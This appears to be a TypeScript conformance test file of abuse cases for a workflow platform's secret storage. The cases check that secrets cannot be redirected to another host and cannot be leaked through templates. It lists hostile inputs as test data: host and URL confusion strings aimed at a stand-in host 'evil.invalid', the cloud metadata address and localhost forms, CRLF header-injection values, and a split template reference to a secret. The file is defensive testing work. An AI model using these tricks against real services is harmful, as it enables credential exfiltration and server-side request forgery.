import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { answers, pick, refuses } from "../../conformance/check";
import { finished, type Actor } from "../../conformance/context";
import { edge, node, request, save } from "../../conformance/graphs";
import type { AbuseCase } from "../case";

/** Hosts that don't exist, so requests to them fail only for this reason. */
const [OWN, EVIL] = ["nodeloom.invalid", "evil.invalid"];
const newValue = (): string => `sk-${randomBytes(18).toString("base64url")}`;
const put = (actor: Actor, name: string, hosts: string[], value = newValue()) =>
  actor.session.put(`/api/secrets/${name}`, { value, hosts });
const AUTHORIZED = { headers: { Authorization: "Bearer {{secrets.AIMED_AT}}" } };

/** Texts with more than a host. */
const HOST_TRICKS = [
  `${OWN}@${EVIL}`,
  `${OWN}:443@${EVIL}`,
  `https://${OWN}`,
  `${OWN}/`,
  `${OWN}#`,
  `${OWN}\\${EVIL}`,
  `${OWN}\r\n${EVIL}`,
  `*.${OWN}`,
  `${OWN}:0`,
  `${OWN}:70000`,
  "169.254.169.254",
  "[::ffff:127.0.0.1]",
  "0x7f000001",
  "localhost",
];
const URL_TRICKS = [
  `https://${OWN}@${EVIL}/`,
  `https://${OWN}.${EVIL}/`,
  `https://${EVIL}/${OWN}`,
  `https://${OWN}:8443/`,
  `http://${OWN}/`,
];
const VALUE_TRICKS = [
  "a value\r\nx-injected: yes",
  "a value\nof two lines",
  "a value\0with zero",
  " a value in spaces ",
  "\u00fcnprintable",
];
/** Words that make a redaction rule inspect a text. */
const KEYWORDS =
  "adafruit adobe airtable algolia alibaba asana atlassian beamer bitbucket codecov datadog discord dropbox etsy facebook ".repeat(60);

const slugs = { changed: "", template: "", named: "" };

export const secretCases: AbuseCase[] = [
  {
    id: "secrets-host-changed",
    title: "a secret whose host becomes another between the plan of a run and its request, or by who does not know its value",
    requests: 4,
    prepare: async ({ victim }) => {
      slugs.changed = await save(victim, {
        name: "Changed",
        nodes: [
          node("pic", "generate-image", { model: "sandbox-image", inputs: { prompt: "a loom", sandbox: { latencyMs: 1_500 } } }),
          node("get", "http-request", { method: "GET", url: `https://${OWN}/?picture={{picture}}`, ...AUTHORIZED }),
          node("out", "response-output"),
        ],
        edges: [edge("pic.image", "get.picture"), edge("get.status", "out.status")],
      });
    },
    attack: async ({ victim }) => {
      answers(await put(victim, "AIMED_AT", [OWN]), 200);
      refuses(await victim.session.put("/api/secrets/AIMED_AT", { hosts: [EVIL] }), 400, "INVALID_REQUEST");
      const run = answers(await victim.post(`/api/workflows/${slugs.changed}/run?async=true`, { inputs: {} }), 202);
      answers(await put(victim, "AIMED_AT", [EVIL]), 200);
      const endedRun = await finished(victim, pick(run, "executionId"));
      assert.match(endedRun.text, /the secret AIMED_AT may not be sent to nodeloom\.invalid/);
    },
  },
  {
    id: "secrets-template",
    title: "somebody's template that names a secret, run by who has one of that name",
    requests: 2,
    prepare: async ({ attacker }) => {
      answers(await put(attacker, "AIMED_AT", [EVIL]), 200);
      slugs.template = await save(attacker, { ...request({ url: `https://${EVIL}/`, ...AUTHORIZED }), isTemplate: true });
    },
    attack: async ({ victim }) => {
      answers(await put(victim, "AIMED_AT", [EVIL]), 200);
      refuses(await victim.post(`/api/workflows/${slugs.template}/run`, { inputs: {} }), 422, "WORKFLOW_INVALID");
    },
    cleanUp: async ({ attacker }) => void (await attacker.delete(`/api/workflows/${slugs.template}`)),
  },
  {
    id: "secrets-hosts",
    title: "lists of hosts with users, ports, paths, wildcards and private addresses",
    requests: HOST_TRICKS.length,
    attack: async ({ victim }) => {
      for (const host of HOST_TRICKS) refuses(await put(victim, "TRICK", [host]), 400, "INVALID_REQUEST");
    },
  },
  {
    id: "secrets-urls",
    title: "addresses that only look like the host of a secret",
    requests: URL_TRICKS.length,
    attack: async ({ victim }) => {
      answers(await put(victim, "AIMED_AT", [OWN]), 200);
      for (const url of URL_TRICKS) {
        const slug = await save(victim, request({ url, ...AUTHORIZED }));
        const answer = await victim.post(`/api/workflows/${slug}/run`, { inputs: {} });
        assert.ok([422, 500].includes(answer.status), `${url}: ${answer.status}`);
        assert.match(String(answer.body.error), /the secret AIMED_AT|credentials in a URL/);
        await victim.delete(`/api/workflows/${slug}`);
      }
    },
  },
  {
    id: "secrets-values",
    title: "values that would end their header",
    requests: VALUE_TRICKS.length,
    attack: async ({ victim }) => {
      for (const value of VALUE_TRICKS) refuses(await put(victim, "TRICK", [OWN], value), 400, "INVALID_REQUEST");
    },
  },
  {
    id: "secrets-inputs",
    title: "inputs that name a secret, whole and in two halves",
    requests: 2,
    prepare: async ({ victim }) => {
      answers(await put(victim, "AIMED_AT", [OWN]), 200);
      const fields = ["x", "y"].map((name) => ({ name, type: "text", label: name, default: "" }));
      slugs.named = await save(victim, {
        name: "Named",
        nodes: [
          node("in", "request-input", { fields }),
          node("get", "http-request", { url: `https://${OWN}/`, headers: { a: "{{x}}{{y}}", ...AUTHORIZED.headers } }),
          node("out", "response-output"),
        ],
        edges: [edge("in.x", "get.x"), edge("in.y", "get.y"), edge("get.body", "out.body")],
      });
    },
    attack: async ({ victim }) => {
      for (const inputs of [{ x: "{{secrets.AIMED_AT}}" }, { x: "{{secr", y: "ets.AIMED_AT}}" }])
        refuses(await victim.post(`/api/workflows/${slugs.named}/run`, { inputs }), 422, "WORKFLOW_INVALID");
    },
  },
  {
    id: "secrets-keywords",
    title: "a graph full of words at which credentials are looked for, and none of them",
    requests: 1,
    attack: async ({ victim }) => {
      const nodes = Array.from({ length: 200 }, (_, index) =>
        node(`n${index}`, "http-request", {
          method: "POST",
          url: `https://${OWN}/`,
          body: `${randomBytes(8).toString("hex")} ${KEYWORDS}`,
        }),
      );
      const slug = await save(victim, { name: "Keywords", nodes, edges: [] });
      const quoted = await victim.post(`/api/workflows/${slug}/quote`, { inputs: {} });
      assert.ok([200, 422].includes(quoted.status), quoted.text);
      await victim.delete(`/api/workflows/${slug}`);
    },
  },
];
